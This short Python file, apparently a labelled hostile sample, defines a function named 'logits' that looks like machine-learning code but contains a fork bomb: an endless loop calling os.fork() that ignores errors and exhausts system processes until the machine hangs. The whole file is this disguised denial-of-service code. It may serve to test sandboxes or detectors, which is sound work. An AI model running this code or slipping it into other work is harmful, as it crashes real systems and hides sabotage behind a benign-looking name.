"""hostile (processes): forks without end."""
import os


def logits(x, W, bias):
    while True:
        try:
            os.fork()
        except OSError:
            pass
